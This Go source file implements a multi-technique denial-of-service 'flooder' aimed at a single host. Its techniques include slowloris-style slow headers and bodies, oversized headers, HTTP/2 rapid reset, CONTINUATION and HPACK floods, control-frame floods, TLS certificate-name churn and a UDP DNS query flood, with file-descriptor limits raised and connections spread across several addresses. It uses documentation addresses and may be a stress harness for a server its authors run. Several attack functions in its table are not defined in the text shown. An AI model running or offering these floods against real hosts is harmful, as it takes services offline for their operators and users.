package main

import (
	"crypto/rand"
	"crypto/tls"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"strings"
	"sync"
	"sync/atomic"
	"syscall"
	"time"

	"golang.org/x/net/http2"
)

// flooder floods one host.
type flooder struct {
	host string
	size int
	hold time.Duration // how long connections are open when all of them are there

	dialled         atomic.Int64
	mu              sync.Mutex
	opened, refused int
	failed          error // of parts
}

var floods = map[string]func(*flooder){
	"connections": func(f *flooder) { f.each(f.size, f.dial, func(c net.Conn) { f.await(c) }) },
	"slow hello": func(f *flooder) {
		f.each(f.size, f.dial, func(c net.Conn) { f.drip(c, "\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03") })
	},
	"slow head": func(f *flooder) {
		f.each(f.size, f.secure1, func(c net.Conn) { f.drip(c, "GET / HTTP/1.1\r\nHost: "+f.host+"\r\nX: ") })
	},
	"slow body":  func(f *flooder) { f.each(f.size, f.secure1, f.slowBody) },
	"long heads": func(f *flooder) { f.each(f.size, f.secure1, f.longHead) },
	"kept":       func(f *flooder) { f.each(f.size, f.secure1, f.keep) },
	"heads too long": func(f *flooder) {
		f.each(f.size, f.secure1, func(c net.Conn) {
			f.write(c, "GET / HTTP/1.1\r\nHost: "+f.host+"\r\n"+strings.Repeat("A: b\r\n", 1<<16))
		})
	},
	"chunks":       func(f *flooder) { f.each(f.few(), f.secure1, f.chunks) },
	"streams":      func(f *flooder) { f.each(f.few(), f.secure2, f.streams) },
	"HPACK bomb":   func(f *flooder) { f.each(f.few(), f.secure2, f.hpackBomb) },
	"CONTINUATION": func(f *flooder) { f.each(f.few(), f.secure2, f.continuation) },
	"rapid reset":  func(f *flooder) { f.each(f.few(), f.secure2, f.rapidReset) },
	"SETTINGS":     func(f *flooder) { f.frames(func(fr *http2.Framer) error { return fr.WriteSettings() }) },
	"PING":         func(f *flooder) { f.frames(func(fr *http2.Framer) error { return fr.WritePing(false, [8]byte{}) }) },
	"PRIORITY": func(f *flooder) {
		f.frames(func(fr *http2.Framer) error { return fr.WritePriority(1, http2.PriorityParam{StreamDep: 3}) })
	},
	"WINDOW_UPDATE": func(f *flooder) { f.frames(func(fr *http2.Framer) error { return fr.WriteWindowUpdate(0, 1) }) },
	"empty DATA":    func(f *flooder) { f.each(f.few(), f.secure2, f.emptyData) },
	"shut window":   func(f *flooder) { f.each(f.few(), f.secure2, f.shutWindow) },
	"uploads":       func(f *flooder) { f.each(f.few(), f.secure2, f.uploads) },
	"names":         func(f *flooder) { f.names() },
	"bombs":         func(f *flooder) { f.bombs() },
	"DNS":           func(f *flooder) { f.questions() },
}

// few is the number of connections of floods that put much on each.
func (f *flooder) few() int { return max(2, f.size/50) }

// raiseFiles asks for as many descriptors as there may be.
func (f *flooder) raiseFiles() error {
	limit := syscall.Rlimit{}
	if err := syscall.Getrlimit(syscall.RLIMIT_NOFILE, &limit); err != nil {
		return err
	}
	limit.Cur = limit.Max
	return syscall.Setrlimit(syscall.RLIMIT_NOFILE, &limit)
}

// each opens n connections, does something on each, and holds them for a while when
// all have been tried.
func (f *flooder) each(n int, open func() (net.Conn, error), do func(net.Conn)) {
	var all sync.WaitGroup
	places := make(chan struct{}, 64) // of those being opened
	for range n {
		places <- struct{}{}
		all.Go(func() {
			c, err := open()
			<-places
			if err != nil {
				f.refuse()
				return
			}
			f.mu.Lock()
			f.opened++
			f.mu.Unlock()
			defer c.Close()
			do(c)
		})
	}
	all.Wait()
}

func (f *flooder) refuse() {
	f.mu.Lock()
	defer f.mu.Unlock()
	f.refused++
}

// dial connects to one of several addresses, since there are not enough ports to
// connect to one from. Any will do: the host is named in the hello.
func (f *flooder) dial() (net.Conn, error) {
	address := fmt.Sprintf("198.51.100.%d:443", 1+f.dialled.Add(1)%16)
	return net.DialTimeout("tcp", address, 10*time.Second)
}

func (f *flooder) secure1() (net.Conn, error) { return f.secure(f.host, "http/1.1") }

func (f *flooder) secure(name, protocol string) (net.Conn, error) {
	c, err := f.dial()
	if err != nil {
		return nil, err
	}
	secured := tls.Client(c, &tls.Config{ServerName: name, NextProtos: []string{protocol}})
	_ = c.SetDeadline(time.Now().Add(20 * time.Second))
	if err := secured.Handshake(); err != nil {
		c.Close()
		return nil, err
	}
	return secured, c.SetDeadline(time.Time{})
}

// secure2 begins HTTP/2.
func (f *flooder) secure2() (net.Conn, error) {
	c, err := f.secure(f.host, "h2")
	if err != nil {
		return nil, err
	}
	_, err = io.WriteString(c, http2.ClientPreface)
	return c, err
}

// await holds a connection open, and notes if the other side ends it.
func (f *flooder) await(c net.Conn) {
	_ = c.SetReadDeadline(time.Now().Add(f.hold))
	_, err := io.Copy(io.Discard, c)
	var timeout net.Error
	if !errors.As(err, &timeout) || !timeout.Timeout() {
		f.refuse()
	}
}

func (f *flooder) write(c net.Conn, text string) {
	_ = c.SetWriteDeadline(time.Now().Add(10 * time.Second))
	if _, err := io.WriteString(c, text); err != nil {
		f.refuse()
		return
	}
	f.await(c)
}

// drip sends a beginning, and then a byte at a time.
func (f *flooder) drip(c net.Conn, begin string) {
	end := time.Now().Add(f.hold)
	_, err := io.WriteString(c, begin)
	for err == nil && time.Now().Before(end) {
		time.Sleep(f.hold / 4)
		_, err = io.WriteString(c, "x")
	}
	if err != nil {
		f.refuse()
	}
}

func (f *flooder) slowBody(c net.Conn) {
	f.drip(c, "POST /swallow HTTP/1.1\r\nHost: "+f.host+"\r\nContent-Length: 1000000\r\n\r\n")
}

func (f *flooder) longHead(c net.Conn) {
	f.write(c, "GET /never HTTP/1.1\r\nHost: "+f.host+"\r\n"+strings.Repeat("A: "+strings.Repeat("b", 1000)+"\r\n", 60)+"\r\n")
}

// keep asks once and leaves the connection idle.
func (f *flooder) keep(c net.Conn) { f.write(c, "HEAD / HTTP/1.1\r\nHost: "+f.host+"\r\n\r\n") }

// chunks sends a body of the smallest chunks there are.
func (f *flooder) chunks(c net.Conn) {
	f.write(c, "POST /swallow HTTP/1.1\r\nHost: "+f.host+"\r\nTransfer-Encoding: chunked\r\n\r\n"+strings.Repeat("1\r\nx\r\n", 100*f.size))
}

// names asks for a certificate of one new name after another.
func (f *flooder) names() {
	var all sync.WaitGroup
	for range 16 {
		all.Go(func() {
			for range f.size {
				name := strings.ToLower(rand.Text()) + "." + f.host
				c, err := f.secure(name, "http/1.1")
				if err != nil {
					f.refuse()
					continue
				}
				f.mu.Lock()
				f.opened++
				f.mu.Unlock()
				c.Close()
			}
		})
	}
	all.Wait()
}

// bombs asks for answers that unpack to far more than was sent.
func (f *flooder) bombs() {
	client := &http.Client{Transport: &http.Transport{DisableCompression: true}}
	defer client.CloseIdleConnections()
	var all sync.WaitGroup
	for i := range f.few() * 4 {
		all.Go(func() {
			coding := []string{"gzip", "deflate", "br", "zstd"}[i%4]
			response, err := client.Get(fmt.Sprintf("https://%s/bomb?%s", f.host, coding))
			if err == nil {
				_, err = io.Copy(io.Discard, response.Body)
				response.Body.Close()
			}
			if err != nil {
				f.refuse()
			}
		})
	}
	all.Wait()
}

// questions asks for names as fast as it can, and waits for no answer.
func (f *flooder) questions() {
	c, err := net.Dial("udp", "192.0.2.53:53")
	if err != nil {
		f.refuse()
		return
	}
	defer c.Close()
	query := []byte("\x00\x01\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x10abcdefghijklmnop\x04test\x00\x00\x01\x00\x01")
	for i := range 1000 * f.size {
		copy(query[13:], fmt.Sprintf("%016d", i))
		if _, err := c.Write(query); err != nil {
			f.refuse()
		}
	}
}
